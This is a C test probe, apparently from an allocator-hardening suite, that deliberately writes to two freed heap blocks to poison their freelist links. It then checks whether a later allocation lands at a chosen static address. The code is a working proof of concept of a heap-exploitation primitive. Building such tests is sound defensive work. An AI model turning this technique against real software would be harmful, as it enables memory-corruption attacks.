/* freelist-poison: free two blocks of the size, then overwrite their first two words (where
 * intrusive free lists keep their links) with a raw address in static memory: the attacker without
 * a heap leak (against glibc's safe-linking, see tcache_poison_safelink.c for the one with a leak).
 * Primitive: a later allocation returns memory at the chosen address; searched over 100,000. */
#include "probe.h"

int main(int argc, char **argv)
{
    size_t size = probe_size(argc, argv, 64);
    size_t words = size >= 16 ? 2 : 1;
    if (size < 8)
        probe_not_applicable(size, "block-smaller-than-a-link");
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    uintptr_t *a = (uintptr_t *)xmalloc(size), *b = (uintptr_t *)xmalloc(size);
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    uintptr_t target = (uintptr_t)(probe_static_area + 4096);
    probe_target(a, a + words);
    probe_target(b, b + words);
    probe_mark("setup-done");
    pfree(a);
    pfree(b);
    volatile uintptr_t *va = (volatile uintptr_t *)launder(a), *vb = (volatile uintptr_t *)launder(b);
    for (size_t i = 0; i < words; i++)
        va[i] = vb[i] = target;
    probe_mark("misuse-done");
    struct probe_hunt h;
    int worked = probe_hunt_returned(&h, size);
    probe_result("worked=%d size=%zu step=%lu at_target=%d made=%lu", worked, size, worked ? h.step : 0ul,
                 h.hit == (void *)target, h.made);
    probe_go_on();
    return 0;
}
